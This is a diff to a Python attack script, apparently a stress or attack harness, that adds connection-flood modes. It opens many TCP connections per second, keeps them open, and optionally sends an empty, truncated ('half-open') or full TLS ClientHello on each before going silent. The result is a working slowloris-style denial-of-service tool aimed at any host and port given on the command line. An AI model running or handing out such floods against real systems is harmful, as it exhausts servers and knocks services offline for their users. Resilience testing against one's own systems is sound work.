@@ -10,6 +10,7 @@ import json
 import socket
 import ssl
 import sys
+from collections.abc import Callable
 from contextlib import suppress
 
 import aiohttp
@@ -96,9 +97,18 @@ async def link(host: str, port: int, pem: str, frames: list[bytes], protocol: st
     return {"codes": codes, "results": results, "close": code}
 
 
-async def flood(host: str, port: int, per_second: int, seconds: float) -> dict[str, object]:
-    """Open silent connections and keep them open."""
+def client_hello() -> bytes:
+    """The first record of a TLS client."""
+    outgoing = ssl.MemoryBIO()
+    with suppress(ssl.SSLWantReadError):
+        pairing_client_context().wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
+    return outgoing.read()
+
+
+async def flood(host: str, port: int, per_second: int, seconds: float, said: bytes = b"") -> dict[str, object]:
+    """Open connections, say that much on each, and keep them open."""
     held: list[socket.socket] = []
+    talking: list[socket.socket] = []
     opened = 0
     loop = asyncio.get_running_loop()
     began = loop.time()
@@ -108,24 +118,38 @@ async def flood(host: str, port: int, per_second: int, seconds: float) -> dict[s
             sock.setblocking(False)
             with suppress(BlockingIOError, OSError):
                 sock.connect((host, port))
+            if said:
+                talking.append(sock)
             held.append(sock)
             opened += 1
             if len(held) > 900:
                 held.pop(0).close()
         await asyncio.sleep(0.005)
+        for sock in talking:  # connected by now
+            with suppress(OSError):
+                sock.send(said)
+        talking.clear()
     return {"opened": opened}
+
+
+FLOODS: dict[str, Callable[[], bytes]] = {
+    "flood": bytes,
+    "half-open": lambda: client_hello()[:20],
+    "whole-hello": client_hello,
+}
+"""What is said on each connection before the silence."""
 
 
 def main(argv: list[str]) -> None:
     """Run one attack."""
     what, host, port, *more = argv
-    parts = [] if what == "flood" else [bytes.fromhex(line) for line in sys.stdin.read().splitlines()]
+    parts = [] if what in FLOODS else [bytes.fromhex(line) for line in sys.stdin.read().splitlines()]
     if what == "say":
         told = asyncio.run(say(host, int(port), more[0], parts, float(more[1]), to_the_end=len(more) < 3))
     elif what == "link":
         told = asyncio.run(link(host, int(port), more[0], parts, more[1] if len(more) > 1 else MSGPACK))
     else:
-        told = asyncio.run(flood(host, int(port), int(more[0]), float(more[1])))
+        told = asyncio.run(flood(host, int(port), int(more[0]), float(more[1]), FLOODS[what]()))
     print(json.dumps(told))
 
 
